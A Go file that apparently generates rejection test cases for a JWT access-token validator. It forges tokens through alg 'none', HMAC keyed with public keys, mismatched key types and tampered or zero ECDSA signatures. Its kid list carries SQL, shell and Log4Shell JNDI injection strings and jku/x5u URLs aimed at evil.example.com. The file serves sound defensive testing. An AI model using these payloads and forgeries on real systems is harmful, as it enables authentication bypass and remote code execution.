package main

import (
	"crypto"
	"crypto/hmac"
	_ "crypto/md5" // for crypto.MD5
	"crypto/x509"
	"encoding/asn1"
	"encoding/hex"
	"encoding/pem"
	"math/big"
	"strings"
)

func algorithm(k *keys) *file {
	f := newFile("The algorithm: none, names that are not quite one, shared secrets made of public keys, and keys used for what they are not for.", k)
	payload := toJSON(goodClaims())
	claims := b64([]byte(payload))
	p := parts(k.es256.token())
	for _, none := range []string{"none", "None", "NONE", "nOnE", "NoNe", "none ", " none", "no\u0000ne", "n\u00f6ne", "null", "undefined", ""} {
		header := b64([]byte(toJSON(map[string]any{"alg": none, "typ": "at+jwt", "kid": "es256"})))
		f.refuse("ErrMalformed", "alg "+toJSON(none)+" without a signature", header+"."+claims+".")
		f.refuse("ErrAlgorithm", "alg "+toJSON(none)+" with the signature of a good token", header+"."+claims+"."+p[2])
	}
	for _, alg := range []string{"es256", "Es256", "ES256 ", " ES256", "ES256\u0000", "ES256,none", "ES-256", "ES256K", "ES512", "EcDSA", "RS1", "RS384", "RS512", "PS512", "RSA-OAEP", "A256GCM", "dir", "PBES2-HS256+A128KW", "ECDH-ES", "Ed448", "Ed25519", "../ES256", "\uff25\uff33256"} {
		f.refuse("ErrAlgorithm", "alg "+toJSON(alg), k.es256.with(map[string]any{"alg": alg}, nil))
	}
	f.refuse("ErrAlgorithm", "no alg", k.es256.with(map[string]any{"alg": nil}, nil))
	f.refuse("ErrAlgorithm", "ALG in place of alg", k.es256.raw(`{"ALG":"ES256","typ":"at+jwt","kid":"es256"}`, payload))

	for _, s := range []*signer{k.es256, k.rs256, k.eddsa} {
		for name, secret := range secretsOf(s) {
			for _, hs := range []struct {
				alg  string
				hash crypto.Hash
			}{{"HS256", crypto.SHA256}, {"HS384", crypto.SHA384}, {"HS512", crypto.SHA512}} {
				f.refuse("ErrAlgorithm", hs.alg+" with the secret "+name+" of the key "+s.kid, hmacToken(s, hs.alg, hs.hash, secret))
			}
			f.refuse("ErrSignature", s.alg+" in the header, but HMAC-SHA-256 with the secret "+name, hmacToken(s, s.alg, crypto.SHA256, secret))
		}
	}
	sortByName(f)

	f.refuse("ErrAlgorithm", "an RS256 key used for PS256", k.rs256.as("PS256"))
	f.refuse("ErrAlgorithm", "a PS256 key used for RS256", k.ps256.as("RS256"))
	f.refuse("ErrAlgorithm", "an ES256 token that names an RS256 key", k.es256.with(map[string]any{"kid": "rs256"}, nil))
	f.refuse("ErrAlgorithm", "an RS256 token that names an ES256 key", k.rs256.with(map[string]any{"kid": "es256"}, nil))
	f.refuse("ErrAlgorithm", "an ES256 token that names an ES384 key", k.es256.with(map[string]any{"kid": "es384"}, nil))
	f.refuse("ErrAlgorithm", "an ES256 token that names an EdDSA key", k.es256.with(map[string]any{"kid": "eddsa"}, nil))
	for _, s := range []*signer{k.es256, k.rs256, k.ps256, k.es384, k.eddsa} {
		others := func(c *settings) {
			c.Algorithms = nil
			for _, alg := range defaults().Algorithms {
				if alg != s.alg {
					c.Algorithms = append(c.Algorithms, alg)
				}
			}
		}
		f.refuse("ErrAlgorithm", s.alg+" is good but not among those allowed", s.token()).with(others)
	}
	return f
}

// as signs with the key as if it were for another algorithm.
func (s *signer) as(alg string) string {
	other := *s
	other.alg = alg
	if alg == "PS256" {
		other.sign = s.pss(32)
	} else {
		other.sign = s.rsa(crypto.SHA256)
	}
	return other.token()
}

// secretsOf is what everybody knows of a key and could use as an HMAC secret.
func secretsOf(s *signer) map[string][]byte {
	der, err := x509.MarshalPKIXPublicKey(s.private.Public())
	if err != nil {
		panic(err)
	}
	text := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
	return map[string][]byte{
		"DER": der, "PEM": text, "PEM without its last line break": text[:len(text)-1],
		"JWK": []byte(toJSON(s.jwk())), "kid": []byte(s.kid), "empty": {}, "one zero byte": {0},
	}
}

func hmacToken(s *signer, alg string, hash crypto.Hash, secret []byte) string {
	forged := signer{kid: s.kid, alg: alg, sign: func(signed string) ([]byte, error) {
		h := hmac.New(hash.New, secret)
		h.Write([]byte(signed))
		return h.Sum(nil), nil
	}}
	return forged.token()
}

func types(k *keys) *file {
	f := newFile("Tokens of other kinds, signed with the very keys of the issuer: none is an access token (RFC 8725 section 3.11).", k)
	for _, typ := range []struct{ typ, what string }{
		{"JWT", "an ID token, as most issuers mark it"},
		{"jwt", "a JWT of no kind"},
		{"logout+jwt", "a logout token (OpenID Connect Back-Channel Logout)"},
		{"dpop+jwt", "a DPoP proof (RFC 9449)"},
		{"oauth-authz-req+jwt", "a request object (RFC 9101)"},
		{"secevent+jwt", "a security event token (RFC 8417)"},
		{"token-introspection+jwt", "an introspection answer (RFC 9701)"},
		{"statuslist+jwt", "a token status list"},
		{"revocations+jwt", "a statement of the revocation feed"},
		{"entity-statement+jwt", "an entity statement (OpenID Federation)"},
		{"client-authentication+jwt", "a client assertion"},
		{"rt+jwt", "a refresh token"},
		{"vc+jwt", "a credential"},
		{"JOSE", "a JWS of no kind"},
		{"text/at+jwt", "a media type that ends alike"},
		{"application/application/at+jwt", "a media type with the prefix twice"},
		{"at+jwt ", "a blank behind it"},
		{" at+jwt", "a blank before it"},
		{"at+jwt;v=1", "a parameter"},
		{"at+jwt\u0000", "a NUL behind it"},
		{"at-jwt", "not quite"},
		{"at jwt", "a plus sign that was decoded"},
		{"\u0430t+jwt", "a Cyrillic letter that looks alike"},
		{"", "empty"},
	} {
		f.refuse("ErrType", typ.what+": typ "+toJSON(typ.typ), k.es256.with(map[string]any{"typ": typ.typ}, nil))
	}
	f.refuse("ErrType", "no typ", k.es256.with(map[string]any{"typ": nil}, nil))
	f.refuse("ErrType", "cty in place of typ", k.es256.with(map[string]any{"typ": nil, "cty": "at+jwt"}, nil))
	f.refuse("ErrType", "TYP in place of typ", k.es256.with(map[string]any{"typ": nil, "TYP": "at+jwt"}, nil))
	f.refuse("ErrType", "typ among the claims", k.es256.with(map[string]any{"typ": nil}, map[string]any{"typ": "at+jwt"}))
	return f
}

func key(k *keys) *file {
	f := newFile("The key: unknown names, names that are attacks on whoever looks them up, and tokens that bring a key of their own.", k)
	for _, kid := range []string{
		"other", "ES256", "es256 ", " es256", "es256\u0000", "es25", "es2566", "*", "..", "../../../dev/null", "/dev/null",
		"file:///proc/sys/kernel/randomize_va_space", "../es256", "es256/../es256", `' OR '1'='1`, `x' UNION SELECT 'secret`, `"; DROP TABLE keys; --`, "|sleep 10", "$(sleep 10)", "`sleep 10`", "| curl evil.example.com",
		"${jndi:ldap://evil.example.com/a}", "https://evil.example.com/jwks.json", "{{7*7}}", "%65s256", "\u0435s256", strings.Repeat("k", 256), strings.Repeat("k", 5000),
	} {
		name := kid
		if len(name) > 60 {
			name = "of " + big.NewInt(int64(len(kid))).String() + " characters"
		}
		f.refuse("ErrUnknownKey", "kid "+toJSON(name), k.es256.with(map[string]any{"kid": kid}, nil))
	}
	f.refuse("ErrUnknownKey", "kid empty", k.es256.with(map[string]any{"kid": ""}, nil))
	f.refuse("ErrUnknownKey", "no kid", k.es256.with(map[string]any{"kid": nil}, nil))
	f.refuse("ErrUnknownKey", "KID in place of kid", k.es256.with(map[string]any{"kid": nil, "KID": "es256"}, nil))
	f.refuse("ErrUnknownKey", "kid among the claims", k.es256.with(map[string]any{"kid": nil}, map[string]any{"kid": "es256"}))

	own := []struct {
		what   string
		member map[string]any
	}{
		{"jwk", map[string]any{"jwk": k.thief.jwk()}},
		{"jku", map[string]any{"jku": "https://evil.example.com/jwks.json"}},
		{"jku at the issuer", map[string]any{"jku": issuer + "/.well-known/jwks.json"}},
		{"x5c", map[string]any{"x5c": []string{"AAAA"}}},
		{"x5u", map[string]any{"x5u": "https://evil.example.com/cert.pem"}},
		{"x5t", map[string]any{"x5t": "AAAA"}},
	}
	for _, o := range own {
		f.refuse("ErrSignature", "a thief's token with "+o.what+" that names the issuer's key", k.thief.with(o.member, nil))
		f.refuse("ErrUnknownKey", "a thief's token with "+o.what+" that names his own", k.thief.with(changed(o.member, map[string]any{"kid": "thief"}), nil))
	}
	f.refuse("ErrUnknownKey", "a thief's token with jwk and without kid", k.thief.with(map[string]any{"jwk": k.thief.jwk(), "kid": nil}, nil))
	return f
}

func signature(k *keys) *file {
	f := newFile("Signatures that are not the issuer's.", k)
	f.refuse("ErrSignature", "signed by another ES256 key of the same name", k.thief.token())
	f.refuse("ErrSignature", "signed by another RS256 key of the same name", k.thiefRSA.token())
	for _, s := range []*signer{k.es256, k.rs256, k.ps256, k.es384, k.eddsa} {
		good := s.token()
		p, sig := parts(good), signatureOf(good)
		bad := func(name string, sig []byte) {
			f.refuse("ErrSignature", s.alg+": "+name, p[0]+"."+p[1]+"."+b64(sig))
		}
		mutated := func(change func(sig []byte) []byte) []byte { return change(append([]byte{}, sig...)) }
		bad("all zero (CVE-2022-21449)", make([]byte, len(sig)))
		bad("all ones", []byte(strings.Repeat("\xff", len(sig))))
		bad("first bit flipped", mutated(func(b []byte) []byte { b[0] ^= 0x80; return b }))
		bad("last bit flipped", mutated(func(b []byte) []byte { b[len(b)-1] ^= 1; return b }))
		bad("cut by a byte", sig[:len(sig)-1])
		bad("a zero byte behind it", mutated(func(b []byte) []byte { return append(b, 0) }))
		bad("a zero byte before it", append([]byte{0}, sig...))
		bad("halves swapped", append(append([]byte{}, sig[len(sig)/2:]...), sig[:len(sig)/2]...))
		bad("one byte", []byte{1})
		bad("of another token", signatureOf(s.with(nil, map[string]any{"jti": "token-2"})))
		other := parts(s.with(nil, map[string]any{"sub": "root"}))
		f.refuse("ErrSignature", s.alg+": another payload under it", p[0]+"."+other[1]+"."+p[2])
		other = parts(s.with(map[string]any{"x": "y"}, nil))
		f.refuse("ErrSignature", s.alg+": another header over it", other[0]+"."+p[1]+"."+p[2])
	}
	ecdsaCases(f, k.es256)
	p := parts(k.rs256.token())
	f.refuse("ErrSignature", "RS256: the key's own modulus as signature", p[0]+"."+p[1]+"."+k.rs256.jwk()["n"].(string))
	sha512 := *k.rs256
	sha512.sign = k.rs256.rsa(crypto.SHA512)
	f.refuse("ErrSignature", "RS256: signed over SHA-512", sha512.token())
	md5 := *k.rs256
	md5.sign = k.rs256.rsa(crypto.MD5)
	f.refuse("ErrSignature", "RS256: signed over MD5", md5.token())
	for _, salt := range []int{20, 64} {
		salted := *k.ps256
		salted.sign = k.ps256.pss(salt)
		f.refuse("ErrSignature", "PS256: a salt of "+big.NewInt(int64(salt)).String()+" bytes (RFC 7518 section 3.5: 32)", salted.token())
	}
	return f
}

// The order of the group of P-256 (FIPS 186-5).
const orderP256 = "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551"

func ecdsaCases(f *file, s *signer) {
	order, err := hex.DecodeString(orderP256)
	if err != nil {
		panic(err)
	}
	good := s.token()
	p, sig := parts(good), signatureOf(good)
	zero, one := make([]byte, 32), append(make([]byte, 31), 1)
	for _, pair := range []struct {
		name string
		r, s []byte
	}{
		{"r is 0", zero, sig[32:]},
		{"s is 0", sig[:32], zero},
		{"r and s are 1", one, one},
		{"r is the order", order, sig[32:]},
		{"s is the order", sig[:32], order},
		{"both are the order", order, order},
	} {
		f.refuse("ErrSignature", "ES256: "+pair.name, p[0]+"."+p[1]+"."+b64(append(append([]byte{}, pair.r...), pair.s...)))
	}
	der, err := asn1.Marshal(struct{ R, S *big.Int }{new(big.Int).SetBytes(sig[:32]), new(big.Int).SetBytes(sig[32:])})
	if err != nil {
		panic(err)
	}
	f.refuse("ErrSignature", "ES256: spelled as ASN.1 (RFC 7518 section 3.4 wants r and s)", p[0]+"."+p[1]+"."+b64(der))
}
